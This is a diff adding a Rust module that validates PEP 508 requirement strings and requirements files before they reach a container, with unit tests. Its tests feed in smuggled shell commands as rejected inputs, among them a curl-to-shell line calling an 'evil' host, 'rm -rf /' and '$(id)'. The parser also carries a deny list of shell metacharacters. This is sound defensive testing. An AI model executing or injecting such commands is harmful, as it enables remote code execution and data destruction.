@@ -1,0 +1,131 @@
+//! Requirements: PEP 508 strings, parsed and checked before anything reaches a container.
+//!
+//! Only plain requirements are accepted (name, extras, version specifiers, markers). URLs,
+//! pip options and anything with characters that could escape a requirements file line are
+//! refused with a reason.
+
+use std::fmt;
+use std::str::FromStr;
+
+use pep508_rs::{Requirement as Pep508, VersionOrUrl};
+
+/// A validated requirement, kept as the normalised PEP 508 text pip will read.
+#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize)]
+pub struct Requirement {
+    /// The distribution name, normalised (PEP 503).
+    pub name: String,
+    /// The requirement as pip will see it (normalised by the parser).
+    pub text: String,
+}
+
+impl fmt::Display for Requirement {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.text)
+    }
+}
+
+impl Requirement {
+    /// Parses one requirement; the error says what is wrong in words a user can act on.
+    pub fn parse(input: &str) -> Result<Requirement, String> {
+        let s = input.trim();
+        if s.is_empty() {
+            return Err("empty requirement".into());
+        }
+        if let Some(c) = s.chars().find(|c| c.is_control()) {
+            return Err(format!("requirement contains a control character ({:?}); one requirement per line, no newlines", c));
+        }
+        if s.starts_with('-') {
+            return Err(format!("`{s}` is a pip option, not a requirement; options such as --index-url are not supported (configure the index in the base image or with PIP_* settings)"));
+        }
+        for bad in ["`", "$(", "&&", "||", ";;", "|", ">", "<<"] {
+            // `>` is legitimate in version specifiers: only flag it outside them (checked by
+            // the parser below); the others never appear in PEP 508.
+            if bad != ">" && s.contains(bad) {
+                return Err(format!("`{s}` contains `{bad}`, which is not PEP 508 syntax"));
+            }
+        }
+        let req = Pep508::<pep508_rs::VerbatimUrl>::from_str(s).map_err(|e| format!("not a PEP 508 requirement: {}", first_line(&e.to_string())))?;
+        if let Some(VersionOrUrl::Url(u)) = &req.version_or_url {
+            return Err(format!("direct URL requirements are not supported ({}): name a version from the package index", u));
+        }
+        let text = req.to_string();
+        if text.contains('\n') || text.contains('\r') {
+            return Err("requirement spans several lines".into());
+        }
+        Ok(Requirement { name: req.name.to_string(), text })
+    }
+}
+
+fn first_line(s: &str) -> String {
+    s.lines().next().unwrap_or("").trim().to_string()
+}
+
+/// Parses a requirements file: one requirement a line, `#` comments, blank lines. Options and
+/// URLs are refused, each error with its line number (1-based).
+pub fn parse_requirements_file(text: &str) -> Result<Vec<Requirement>, Vec<(usize, String)>> {
+    let mut out = Vec::new();
+    let mut errors = Vec::new();
+    for (i, raw) in text.lines().enumerate() {
+        let line = match raw.find(" #").or_else(|| raw.trim_start().starts_with('#').then_some(0)) {
+            Some(idx) => &raw[..idx],
+            None => raw,
+        };
+        if line.trim().is_empty() {
+            continue;
+        }
+        if line.trim_end().ends_with('\\') {
+            errors.push((i + 1, "line continuations are not supported: one requirement per line".to_string()));
+            continue;
+        }
+        match Requirement::parse(line) {
+            Ok(r) => out.push(r),
+            Err(e) => errors.push((i + 1, e)),
+        }
+    }
+    if errors.is_empty() {
+        Ok(out)
+    } else {
+        Err(errors)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn accepts_plain_requirements_and_normalises_names() {
+        let r = Requirement::parse("Argon2_CFFI >= 23.1 ; python_version >= '3.8'").unwrap();
+        assert_eq!(r.name, "argon2-cffi");
+        assert!(r.text.contains(">=23.1"), "{}", r.text);
+        assert_eq!(Requirement::parse("orjson==3.10.*").unwrap().name, "orjson");
+        assert_eq!(Requirement::parse("requests[socks]").unwrap().name, "requests");
+    }
+
+    #[test]
+    fn refuses_shell_and_dockerfile_smuggling() {
+        for bad in [
+            "numpy\nRUN curl evil | sh",
+            "numpy && rm -rf /",
+            "numpy; echo $(id)",
+            "numpy`id`",
+            "--index-url http://evil/simple numpy",
+            "-e .",
+            "pkg @ https://example.com/pkg.whl",
+            "",
+            "numpy ==",
+            "num py",
+        ] {
+            assert!(Requirement::parse(bad).is_err(), "accepted {bad:?}");
+        }
+    }
+
+    #[test]
+    fn requirements_file_reports_every_bad_line() {
+        let text = "# deps\nnumpy>=2\n\n--extra-index-url http://x\nmsgpack  # fast\nfoo @ https://x/y.whl\n";
+        let errs = parse_requirements_file(text).unwrap_err();
+        assert_eq!(errs.iter().map(|e| e.0).collect::<Vec<_>>(), vec![4, 6]);
+        let ok = parse_requirements_file("numpy>=2\nmsgpack  # fast\n").unwrap();
+        assert_eq!(ok.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(), vec!["numpy", "msgpack"]);
+    }
+}
